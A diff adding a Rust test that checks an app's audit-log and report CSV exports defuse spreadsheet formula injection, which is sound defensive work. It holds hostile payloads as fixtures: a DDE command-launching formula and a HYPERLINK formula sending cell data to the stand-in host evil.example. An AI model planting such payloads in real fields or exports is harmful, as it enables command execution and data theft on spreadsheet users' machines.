@@ -1261,6 +1261,71 @@ async fn no_route_edits_or_deletes_the_audit_log() {
     .await;
 }
 
+/// What an attacker types that a spreadsheet would run: anyone can put it in a User-Agent or a
+/// sign-in email without an account, and an adjuster can make it a policyholder's name.
+const DDE: &str = "=cmd|\"/C calc\"!A0";
+const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Report\")";
+
+#[tokio::test]
+async fn hostile_text_reaches_the_audit_and_report_csvs_as_text_and_negative_numbers_stay_numbers() {
+    each_backend(|backend| async move {
+        let app = mfa_app(backend).await;
+        let sue = signed_in_staff(&app, SUE, Role::Support).await;
+        app.create_user(ANN, Role::Policyholder).await;
+        create_named(&app, "eve@example.com", HYPERLINK, Role::Policyholder).await;
+        create_named(&app, "neg@example.com", "-42", Role::Policyholder).await;
+        create_named(&app, "plus@example.com", "+1 555 0100", Role::Policyholder).await;
+
+        // Failed sign-ins, no account needed for the second: the typed email and the User-Agent
+        // land in the audit log as sent.
+        for (email, user_agent) in [(ANN, DDE), ("=1+2|cmd@evil.example", "@SUM(1+1)*cmd|' /C calc'!A0"), (ANN, "-42")]
+        {
+            let a = answer(
+                app.client()
+                    .post(app.url("/api/v1/login"))
+                    .header(header::USER_AGENT, user_agent)
+                    .json(&json!({ "email": email, "password": "wrong password, surely" }))
+                    .send()
+                    .await
+                    .unwrap(),
+            )
+            .await;
+            a.assert_error(StatusCode::UNAUTHORIZED, "invalid_credentials");
+        }
+
+        let csv = sue.get(&app, "/console/audit.csv?action=login.password&outcome=failure").await;
+        csv.assert_ok();
+        let rows = csv_rows(&csv.text);
+        let cells = |column: usize| -> BTreeSet<String> { rows[1..].iter().map(|r| r[column].clone()).collect() };
+        assert_eq!(rows.len(), 4, "{}", csv.text);
+        assert_eq!(
+            cells(8),
+            BTreeSet::from([format!("'{DDE}"), "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(), "-42".to_owned()]),
+            "user agents as text, a plain number as it was: {}",
+            csv.text
+        );
+        assert_eq!(cells(4), BTreeSet::from([ANN.to_owned(), "'=1+2|cmd@evil.example".to_owned()]), "{}", csv.text);
+        // The JSON views keep the exact text: the mark belongs to the spreadsheet file only.
+        let events = sue.audit(&app, "action=login.password&outcome=failure").await;
+        assert!(events.iter().any(|e| e["subject"] == "=1+2|cmd@evil.example"), "{events:#?}");
+        let jsonl = sue.get(&app, "/console/audit.jsonl?action=login.password&outcome=failure").await;
+        assert!(jsonl.text.contains(&json!(DDE).to_string()), "{}", jsonl.text);
+
+        let csv = sue.get(&app, "/console/report.csv").await;
+        csv.assert_ok();
+        let names: BTreeMap<String, String> =
+            csv_rows(&csv.text)[1..].iter().map(|r| (r[0].clone(), r[1].clone())).collect();
+        assert_eq!(names["eve@example.com"], format!("'{HYPERLINK}"), "{}", csv.text);
+        assert_eq!(names["plus@example.com"], "'+1 555 0100", "{}", csv.text);
+        assert_eq!(names["neg@example.com"], "-42", "a plain number is not marked: {}", csv.text);
+        assert_eq!(names[ANN], "ann", "{}", csv.text);
+        for cell in csv_rows(&csv.text).iter().flatten() {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?} in {}", csv.text);
+        }
+    })
+    .await;
+}
+
 // ----- 9. User search ----------------------------------------------------------------------------
 
 async fn create_named(app: &TestApp, email: &str, name: &str, role: Role) -> User {
